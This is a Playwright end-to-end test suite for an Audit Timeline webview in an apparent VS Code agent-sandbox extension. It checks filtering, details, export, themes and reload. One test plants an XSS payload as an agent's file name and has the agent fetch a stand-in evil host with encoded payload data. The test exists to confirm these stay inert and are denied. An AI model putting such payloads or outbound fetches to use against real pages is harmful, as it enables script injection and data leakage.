// The Audit Timeline in a real browser against a real VS Code (code-server): opened from the command palette,
// filled live by real agent runs (the real sandbox, guard pipeline and audit log, writing into the extension's
// own state folder), filtered, inspected, themed, and fed an XSS corpus that must stay inert text.
import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page, Request } from 'playwright-core';
import { AuditLog } from '../../src/core/audit/auditLog';
import { Redactor } from '../../src/core/audit/redaction';
import { secretScannerFrom } from '../../src/core/guard/secretScanner';
import { AgentRuntime } from '../../src/core/runtime/agentRuntime';
import type { ApprovalGate } from '../../src/core/runtime/approvalGate';
import type { AuditEvent } from '../../src/protocol/auditEvent';
import { detailsOf, rowOf } from '../../src/vscode/timeline/timelineRows';
import { shown } from '../../media/src/timeline/dom';
import { shortRun } from '../../media/src/timeline/eventList';
import { evilHost, xssCorpus } from '../fixtures/timeline/xssCorpus';
import { artifactsDir, repoRoot } from '../harness/harnessPaths';
import { col, detailsText, extensionStateDir, shownRows, timelineFrame, viewState, waitForRows } from './timelineView';
import { useWorkbench } from './workbenchSession';

const approveAll: ApprovalGate = { ask: async () => ({ approved: true, actor: 'human:e2e' }) };

describe('Audit Timeline in the browser', function () {
  this.timeout(240_000);
  const session = useWorkbench({ viewport: { width: 1700, height: 1000 } });
  let runtime: AgentRuntime;
  let audit: AuditLog;
  let frame: Frame;
  let refactorRun: string;
  const scratch = mkdtempSync(join(tmpdir(), 'airlock-timeline-e2e-'));

  before(() => {
    runtime = new AgentRuntime({ sandboxDir: join(repoRoot, 'sandbox') });
  });

  after(async () => {
    runtime?.dispose();
    await audit?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  it('opens from the command palette and shows a finished run’s events as they are written', async () => {
    const wb = session.workbench;
    await wb.runCommand('Airlock: Open Audit Timeline');
    await wb.waitForActiveTab('Audit Timeline');
    frame = await timelineFrame(wb.page);

    // The extension keeps its audit log in its own storage; a real agent run writes into it from here (the
    // timeline is a reader and picks the events up as they are made durable).
    audit = await AuditLog.open(await extensionStateDir(session.server));
    const run = await runtime.start({
      workspace: session.workspace,
      agentFile: join(repoRoot, 'examples', 'agents', 'refactor.agent.js'),
      task: 'rename formatPrice to formatMoney',
      gate: approveAll,
      audit,
      scanner: secretScannerFrom(new Redactor()),
    });
    const report = await run.done;
    assert.equal(report.status, 'completed', report.reason);
    refactorRun = report.runId;

    const rows = await waitForRows(frame, (r) => r.some((x) => x.cells[col.type] === 'run.end'), 'the run.end row');
    const types = rows.map((r) => r.cells[col.type]);
    assert.equal(types[0], 'run.start');
    assert.ok(types.includes('tool.call'));
    assert.ok(rows.some((r) => r.cells[col.tool] === 'fs.delete' && r.cells[col.decision] === 'approved'), 'the approved delete is shown');
    assert.ok(rows.every((r) => r.cells[col.run] === shortRun(refactorRun) && r.cells[col.agent] === 'refactor'));
    // The run is a group with its status and counts.
    const group = await frame.evaluate(() => document.querySelector('#app .list .group')?.textContent ?? '');
    assert.match(group, /completed/);
    assert.match(group, new RegExp(`${rows.length} events`));
    // The workbench starts in its light default; the first screenshots are of the dark theme.
    await pickColorTheme(wb.page, 'Dark Modern');
    await frame.waitForFunction(() => document.body.classList.contains('vscode-dark'), undefined, { timeout: 15_000 });
    await wb.screenshot('timeline-01-dark-run');
  });

  it('narrows the rows with a filter', async () => {
    const before = await shownRows(frame);
    const select = frame.locator('vscode-single-select[data-filter="tool"]');
    await select.click();
    await frame.locator('vscode-single-select[data-filter="tool"] li[role="option"]', { hasText: 'fs.write' }).click();
    const rows = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.tool] === 'fs.write'), 'only fs.write rows');
    assert.ok(rows.length < before.length, `${rows.length} rows after the filter, ${before.length} before`);
    assert.equal(rows.length, before.filter((r) => r.cells[col.tool] === 'fs.write').length);
    await session.workbench.screenshot('timeline-02-dark-filtered');
  });

  it('shows the selected event in the details pane: fields and the redacted arguments as JSON', async () => {
    const rows = await shownRows(frame);
    const target = rows.find((r) => r.cells[col.summary]!.startsWith('src/format.js'))!;
    assert.ok(target, 'a write of src/format.js is listed');
    await frame.locator(`#app .list .row[data-seq="${target.seq}"]`).click();
    await frame.locator('#app .details pre.json').first().waitFor();
    const text = await detailsText(frame);
    const stored = (await audit.get(target.seq))!;
    assert.match(text, /Arguments/);
    assert.ok(text.includes(shown(detailsOf(stored).argsJson!)), 'the arguments are the stored (redacted) JSON, formatted');
    assert.match(text, /"path": "src\/format\.js"/);
    assert.ok(text.includes(stored.hash), 'the hash is shown');
    assert.ok(stored.rule && text.includes(stored.rule), 'the rule that decided is shown');
    await session.workbench.screenshot('timeline-03-dark-details');
  });

  it('verifies the chain from its button', async () => {
    await frame.locator('vscode-button[data-id="verify"]').click();
    await frame.locator('.verify-result.verify-ok').waitFor({ timeout: 30_000 });
    assert.match((await frame.locator('.verify-result').textContent()) ?? '', /Chain intact/);
  });

  it('exports what the filter shows through the save dialog', async () => {
    const wb = session.workbench;
    const file = join(scratch, 'writes.csv');
    await frame.locator('vscode-single-select.export-format').click();
    await frame.locator('vscode-single-select.export-format li[role="option"]', { hasText: 'CSV' }).click();
    await frame.locator('vscode-button[data-id="export"]').click();
    // The workbench's own save dialog (a quick input with a path in the browser).
    const input = wb.page.locator('.quick-input-widget input');
    await input.waitFor({ state: 'visible', timeout: 30_000 });
    // It opens on the suggested name (airlock-audit-<time>.csv in the workspace); replace that once it is there.
    await wb.page.waitForFunction(() => /airlock-audit-.*\.csv$/.test((document.querySelector('.quick-input-widget input') as HTMLInputElement | null)?.value ?? ''), undefined, { timeout: 30_000 });
    await input.fill(file);
    // The dialog completes what is typed as it goes: wait until it shows exactly the path, then accept it.
    await wb.page.waitForFunction((f) => (document.querySelector('.quick-input-widget input') as HTMLInputElement | null)?.value === f, file, { timeout: 10_000 });
    await wb.page.waitForTimeout(300);
    await wb.page.locator('.quick-input-widget .monaco-button', { hasText: /^OK$/ }).click();
    const notice = frame.locator('#app .notice', { hasText: 'Exported' });
    await notice.waitFor({ timeout: 30_000 });
    assert.match((await notice.textContent()) ?? '', /writes\.csv/, 'the export went to the chosen file');
    const lines = readFileSync(file, 'utf8').trim().split('\n');
    assert.equal(lines.length, 1 + 3, 'a header and the three fs.write events the filter shows');
    assert.ok(lines.slice(1).every((l) => l.includes('fs.write')));
  });

  it('follows the light and high-contrast themes', async () => {
    const wb = session.workbench;
    for (const [theme, name] of [
      ['Light Modern', 'timeline-04-light-details'],
      ['Dark High Contrast', 'timeline-05-high-contrast'],
    ] as const) {
      await pickColorTheme(wb.page, theme);
      // The webview receives the new theme's class and variables together.
      const themeClass = theme.startsWith('Light') ? 'vscode-light' : 'vscode-high-contrast';
      await frame
        .waitForFunction((c) => document.body.classList.contains(c), themeClass, { timeout: 15_000 })
        .catch(async () => assert.fail(`no ${themeClass} on the webview's body: ${await frame.evaluate(() => `${document.body.className}; background ${getComputedStyle(document.body).backgroundColor}`)}`));
      assert.equal(await frame.evaluate(() => document.body.classList.contains('vscode-light')), theme.startsWith('Light'));
      await wb.screenshot(name);
    }
    assert.equal(await frame.evaluate(() => document.body.classList.contains('vscode-high-contrast')), true);
    await pickColorTheme(wb.page, 'Dark Modern');
  });

  it('shows an XSS corpus placed by an agent as inert, literal text: no script runs, no request leaves', async () => {
    const wb = session.workbench;
    const page = wb.page;
    const fired: unknown[] = [];
    const requests: string[] = [];
    const consoleLines: string[] = [];
    await page.exposeFunction('airlockXss', (n: unknown) => void fired.push(n));
    const onRequest = (r: Request) => void requests.push(r.url());
    page.on('request', onRequest);
    page.on('console', (m) => void consoleLines.push(m.text()));
    assert.equal(await frame.evaluate(() => typeof (window as unknown as { airlockXss?: unknown }).airlockXss), 'function', 'the tripwire is reachable from the webview');
    // The console of the webview reaches this test (so a CSP report there would be seen).
    await frame.evaluate(() => console.log('airlock-console-probe'));
    await waitUntil(() => consoleLines.includes('airlock-console-probe'), 'the webview console to be observed');

    // 1. A real agent, through ctx: payloads as its own file name, as file names, URLs, reasons, logs, its result.
    const ws = join(scratch, 'ws');
    mkdirSync(join(ws, 'notes'), { recursive: true });
    const policyFile = join(scratch, 'policy.json');
    writeFileSync(
      policyFile,
      JSON.stringify({
        version: 1,
        defaults: {
          scope: { read: ['**'], write: ['notes/**'], net: [], tools: ['fs.*', 'net.fetch'] },
          approval: { '*': 'auto' },
          limits: { rate: { '*': '100000/min' }, maxCalls: 10_000, timeoutMs: 60_000 },
          breaker: { failures: 10_000, windowMs: 1000 },
        },
      }),
    );
    const agentDir = join(scratch, 'agents');
    mkdirSync(agentDir, { recursive: true });
    const agentFile = join(agentDir, `<img src=x onerror=airlockXss(0)>.agent.js`);
    writeFileSync(
      agentFile,
      `export default async function agent(ctx) {
        const payloads = JSON.parse(ctx.task);
        for (const p of payloads) {
          ctx.reason(p);
          try { await ctx.fs.read(p); } catch {}
          ctx.reason(p);
          try { await ctx.fs.write('notes/' + p.slice(0, 60).replace(/[\\/\\\\]/g, '_') + '.txt', p); } catch {}
          try { await ctx.net.fetch('http://${evilHost}/' + encodeURIComponent(p.slice(0, 60))); } catch {}
          ctx.log(p);
        }
        return { summary: payloads.slice(0, 12) };
      }`,
    );
    const hostile = await runtime.start({ workspace: ws, agentFile, policyFile, task: JSON.stringify(xssCorpus), gate: approveAll, audit, scanner: secretScannerFrom(new Redactor()) });
    const hostileReport = await hostile.done;
    assert.equal(hostileReport.status, 'completed', hostileReport.reason);

    // 2. Straight into the log: payloads where only a writer could put them (tool, actor, rule, result keys).
    const appended: AuditEvent[] = [];
    for (const [i, p] of xssCorpus.entries()) {
      appended.push(
        await audit.append({
          runId: 'xss-direct',
          agent: p.slice(0, 200),
          type: i % 2 ? 'tool.call' : 'approval',
          tool: `custom.${i}${p.slice(0, 40)}`,
          args: { path: p, [p.slice(0, 80)]: [p] },
          result: { content: p, nested: { html: p } },
          decision: 'allow',
          level: 'review',
          rule: p.slice(0, 300),
          actor: `human:${p.slice(0, 100)}`,
          reason: p,
          durationMs: i,
        }),
      );
    }

    // What the timeline must show is what the log stored (redacted, keys in canonical order).
    const direct = await Promise.all(appended.map(async (e) => (await audit.get(e.seq))!));

    // Both runs show up live (the timeline may see both in one burst of more than a page, and still follows to the
    // newest row); look at the direct one, then at the agent's.
    await frame.locator('vscode-button[data-id="clear"]').click();
    await waitForRows(frame, (r) => r.some((x) => x.seq === direct.at(-1)!.seq), 'the last hostile event');
    await frame.locator('#app .runs .run-item[data-run="xss-direct"]').click();
    const onScreen = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.run] === 'xss-direct'), 'only the xss-direct run');
    await wb.screenshot('timeline-06-xss-rows');
    // Every hostile row, top to bottom (the list only keeps what is near the screen in the DOM).
    const rows = new Map(onScreen.map((r) => [r.seq, r]));
    await frame.evaluate(() => {
      const l = document.querySelector('#app .list')!;
      l.scrollTop = 0;
    });
    for (const r of await waitForRows(frame, (r) => r.some((x) => x.seq === direct[0]!.seq), 'the first hostile row at the top')) rows.set(r.seq, r);
    await frame.evaluate(() => {
      const l = document.querySelector('#app .list')!;
      l.scrollTop = l.scrollHeight;
    });
    for (const r of await waitForRows(frame, (r) => r.some((x) => x.seq === direct.at(-1)!.seq), 'the last hostile row at the bottom')) rows.set(r.seq, r);
    assert.deepEqual([...rows.keys()].sort((a, b) => a - b), direct.map((e) => e.seq), 'every hostile event is listed');
    for (const r of rows.values()) {
      const e = direct.find((d) => d.seq === r.seq)!;
      const expected = rowOf(e);
      assert.equal(r.cells[col.run], 'xss-direct');
      assert.equal(r.cells[col.summary], shown(expected.summary ?? ''), `row #${r.seq}: the subject is shown literally`);
      assert.equal(r.cells[col.agent], shown(e.agent), `row #${r.seq}: the agent is shown literally`);
      assert.equal(r.cells[col.actor], shown(e.actor ?? ''), `row #${r.seq}: the actor is shown literally`);
      assert.equal(r.cells[col.tool], shown(e.tool ?? ''), `row #${r.seq}: the tool is shown literally`);
    }
    // Details of a few, found with the search box: script tags, javascript: links, a 100,000-character string,
    // a right-to-left override.
    const search = frame.locator('vscode-textfield.search input');
    for (const [needle, e] of [
      ['airlockXss(2)', direct[1]!],
      ['airlockXss(4)', direct[3]!],
      ['airlockXss(13)', direct[12]!],
      ['invoice', direct[10]!],
    ] as const) {
      await search.fill(needle);
      await waitForRows(frame, (r) => r.length === 1 && r[0]!.seq === e.seq, `the search for ${needle}`);
      await frame.locator(`#app .list .row[data-seq="${e.seq}"]`).click();
      await waitForDetails(frame, e.seq);
      const text = await detailsText(frame);
      const d = detailsOf(e);
      assert.ok(text.includes(shown(d.argsJson!)), `#${e.seq}: the arguments JSON is shown literally`);
      assert.ok(text.includes(shown(d.resultJson!)), `#${e.seq}: the result JSON is shown literally`);
      assert.ok(text.includes(shown(d.reason!)), `#${e.seq}: the reason is shown literally`);
      if (needle === 'airlockXss(2)') await frame.locator('#app .details').screenshot({ path: join(artifactsDir, 'timeline-07-xss-details-pane.png') });
      if (needle === 'invoice') await wb.screenshot('timeline-08-xss-details-rlo');
    }
    await frame.locator('vscode-button[data-id="clear"]').click();
    await waitForRows(frame, (r) => r.length > 20, 'every run again');

    await frame.locator(`#app .runs .run-item[data-run="${hostileReport.runId}"]`).click();
    const agentRows = await waitForRows(frame, (r) => r.length > 0 && r.every((x) => x.cells[col.run] === shortRun(hostileReport.runId)), 'the hostile agent’s run');
    assert.ok(agentRows.some((r) => r.cells[col.agent] === '<img src=x onerror=airlockXss(0)>'), 'the agent’s hostile file name is its name, as text');
    assert.ok(agentRows.some((r) => r.cells[col.tool] === 'net.fetch' && r.cells[col.decision] === 'deny'), 'the fetch to the evil host was denied');
    await wb.screenshot('timeline-09-xss-agent-run');

    // 3. A fresh panel carries its first page (the newest events: these payloads) inside its HTML, as a JSON data
    //    block: the same literal text there too.
    await wb.runCommand('View: Close All Editors');
    await wb.runCommand('Airlock: Open Audit Timeline');
    frame = await timelineFrame(page);
    assert.equal(await frame.evaluate(() => document.getElementById('airlock-init') !== null), true, 'the first page was embedded in the HTML');
    const fresh = await waitForRows(frame, (r) => r.some((x) => x.seq === direct.at(-1)!.seq), 'the newest hostile event in a fresh panel');
    const freshDirect = fresh.filter((r) => direct.some((d) => d.seq === r.seq));
    assert.ok(freshDirect.length > 0);
    for (const r of freshDirect) {
      const e = direct.find((d) => d.seq === r.seq)!;
      assert.equal(r.cells[col.summary], shown(rowOf(e).summary ?? ''), `fresh panel, row #${r.seq}: the subject is shown literally`);
      assert.equal(r.cells[col.agent], shown(e.agent), `fresh panel, row #${r.seq}: the agent is shown literally`);
    }
    await wb.screenshot('timeline-10-xss-fresh-panel');

    // Nothing ran, nothing was injected, nothing was fetched.
    await page.waitForTimeout(1000);
    assert.deepEqual(fired, [], 'a payload ran as script');
    for (const f of page.frames()) {
      const flag = await f.evaluate(() => (window as unknown as { __xss?: unknown }).__xss).catch(() => undefined);
      assert.equal(flag, undefined, `a payload ran in ${f.url()}`);
    }
    const injected = await frame.evaluate(() => document.querySelectorAll('#app img, #app script, #app iframe, #app svg, #app a, #app style, #app link, #app meta, #app object, #app embed, #app math, #app details, #app [onerror], #app [onclick], #app [onload]').length);
    assert.equal(injected, 0, 'markup from a payload reached the page');
    const origin = session.server.origin;
    // A panel opened during the test loads its own bundle through webview resource URLs (*.vscode-resource.vscode-cdn.net,
    // answered by the webview's service worker from the extension's media/dist); anything else would have left.
    const ownAsset = (u: string) => /^https:\/\/[^/]+\.vscode-resource\.vscode-cdn\.net\/.*\/media\/dist\/[^?]+(\?[0-9a-f]*)?$/.test(u);
    const outside = requests.filter((u) => !u.startsWith(origin) && !/^(data|blob|vscode-webview|vscode-file):/.test(u) && !ownAsset(u));
    assert.deepEqual(outside, [], 'requests left the workbench');
    assert.ok(!requests.some((u) => u.includes(evilHost)), 'a payload URL was requested');
    const violations = consoleLines.filter((l) => /Content.Security.Policy|Refused to/i.test(l));
    assert.deepEqual(violations, [], 'the CSP had to block something the page tried');
    page.off('request', onRequest);

    // And the CSP is really in force: even a script element put into the page by hand does not run.
    const blocked = await frame.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
          const s = document.createElement('script');
          s.textContent = 'window.__xss = "csp"';
          document.body.append(s);
          s.remove();
          setTimeout(() => resolve('not blocked'), 15_000);
        }),
    );
    assert.match(blocked, /^script-src/);
    assert.equal(await frame.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), undefined);
  });

  it('adds live events without moving what is on screen when scrolled back, and follows them at the bottom', async () => {
    // Enough events of its own to scroll back through, whatever the flows before it left in the log.
    for (let i = audit.lastEvent.seq; i < 150; i++) await audit.append({ runId: 'live-backlog', agent: 'live', type: 'log', actor: 'agent', reason: `backlog line ${i}` });
    const newest = audit.lastEvent.seq;
    await frame.locator('vscode-button[data-id="clear"]').click();
    // The unfiltered window once Clear has been answered (not whatever window the flow before left): loaded, at
    // least a page of rows, up to the last event written.
    await frame.waitForFunction(
      (n) => document.querySelector<HTMLElement>('#app vscode-progress-bar')?.hidden === true && Number(document.body.dataset.held) >= 100 && Number(document.body.dataset.lastSeq) === n,
      newest,
      { timeout: 30_000 },
    );
    // Scroll back near the oldest rows the window holds and note the row at the top of the screen.
    const topRow = () =>
      frame.evaluate(() => {
        const list = document.querySelector<HTMLElement>('#app .list')!;
        const top = list.getBoundingClientRect().top;
        const rows = Array.from(list.querySelectorAll<HTMLElement>('.row')).filter((r) => r.getBoundingClientRect().top >= top - 1);
        rows.sort((a, b) => a.getBoundingClientRect().top - b.getBoundingClientRect().top);
        return { seq: Number(rows[0]?.dataset.seq), y: Math.round((rows[0]?.getBoundingClientRect().top ?? 0) - top) };
      });
    await frame.evaluate(() => {
      document.querySelector<HTMLElement>('#app .list')!.scrollTop = 120;
    });
    await frame.waitForFunction(() => !(document.querySelector('.status-text')?.textContent ?? '').includes('following'), undefined, { timeout: 10_000 });
    await paintedFrames(frame);
    const before = await topRow();
    const lastBefore = Number(await frame.evaluate(() => document.body.dataset.lastSeq));
    for (let i = 0; i < 40; i++) await audit.append({ runId: 'live-run', agent: 'live', type: 'log', actor: 'agent', reason: `live line ${i}` });
    await frame.waitForFunction((n) => Number(document.body.dataset.lastSeq) >= n + 40, lastBefore, { timeout: 30_000 });
    await paintedFrames(frame);
    assert.deepEqual(await topRow(), before, `the row on screen moved; ${await viewState(frame)}`);
    // Back to the bottom: the view follows, and the next live events appear on screen.
    await frame.evaluate(() => {
      const list = document.querySelector<HTMLElement>('#app .list')!;
      list.scrollTop = list.scrollHeight;
    });
    await frame.waitForFunction(() => document.querySelector('.status-text')?.textContent?.includes('following') ?? false, undefined, { timeout: 10_000 });
    const last = await audit.append({ runId: 'live-run', agent: 'live', type: 'log', actor: 'agent', reason: 'the newest line' });
    await waitForRows(frame, (r) => r.some((x) => x.seq === last.seq), 'the newest live row on screen');
    const visible = await frame.evaluate((seq) => {
      const list = document.querySelector<HTMLElement>('#app .list')!.getBoundingClientRect();
      const row = document.querySelector<HTMLElement>(`#app .list .row[data-seq="${seq}"]`)!.getBoundingClientRect();
      return row.top >= list.top && row.bottom <= list.bottom + 1;
    }, last.seq);
    assert.ok(visible, 'the newest row is on screen');
    await session.workbench.screenshot('timeline-10-live-following');
  });

  it('comes back after a window reload with its filter and rows (panel serializer and saved state)', async () => {
    const wb = session.workbench;
    await frame.locator('vscode-button[data-id="clear"]').click();
    await frame.locator(`#app .runs .run-item[data-run="${refactorRun}"]`).click();
    await waitForRows(frame, (r) => r.length === 13 && r.every((x) => x.cells[col.run] === shortRun(refactorRun)), 'the refactor run alone');
    // Through the workbench's own reload, which saves the webview's state on the way out (a bare page reload may not).
    const navigated = wb.page.waitForEvent('framenavigated', { predicate: (f) => f === wb.page.mainFrame(), timeout: 60_000 });
    await wb.runCommand('Developer: Reload Window');
    await navigated;
    await wb.page.locator('.monaco-workbench').waitFor({ timeout: 60_000 });
    await wb.waitForActiveTab('Audit Timeline');
    frame = await timelineFrame(wb.page, 60_000);
    const rows = await waitForRows(frame, (r) => r.length === 13, 'the restored rows', 60_000);
    assert.ok(rows.every((x) => x.cells[col.run] === shortRun(refactorRun)), 'the run filter survived the reload');
    // The runs list and the filter choices follow the first rows.
    await frame.locator(`#app .runs .run-item.active[data-run="${refactorRun}"]`).waitFor({ timeout: 30_000 });
    assert.equal(await frame.evaluate(() => document.querySelector<HTMLElement & { value: string }>('vscode-single-select[data-filter="runId"]')?.value), refactorRun);
    await wb.screenshot('timeline-11-after-reload');
  });
});

/** Preferences: Color Theme, then the theme (the palette ranks "Browse Color Themes" first, so click by name). */
async function pickColorTheme(page: Page, theme: string): Promise<void> {
  const quick = page.locator('.quick-input-widget');
  if (await quick.isVisible()) await page.keyboard.press('Escape');
  await page.keyboard.press('F1');
  await quick.locator('input').fill('>Preferences: Color Theme');
  await quick.locator('.monaco-list-row', { hasText: /^Preferences: Color Theme/ }).first().click();
  // The theme list is virtualised: filter it down to the one theme, then pick it.
  await quick.locator('.monaco-list-row', { hasText: /Light|Dark/ }).first().waitFor({ timeout: 60_000 });
  await quick.locator('input').fill(theme);
  await quick.locator('.monaco-list-row', { hasText: new RegExp(`^${theme}`) }).first().click();
}

/** Resolves once the page has painted twice (whatever a change queued for the next frame has been drawn). */
async function paintedFrames(frame: Frame): Promise<void> {
  await frame.evaluate(() => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve()))));
}

/** Waits for something the test process observes (console lines, requests), polling. */
async function waitUntil(condition: () => boolean, what: string, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs / 1000} s waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

async function waitForDetails(frame: Frame, seq: number): Promise<void> {
  await frame.waitForFunction((s) => document.querySelector('#app .details-title')?.textContent?.includes(`#${s}`) ?? false, seq, { timeout: 15_000 });
}
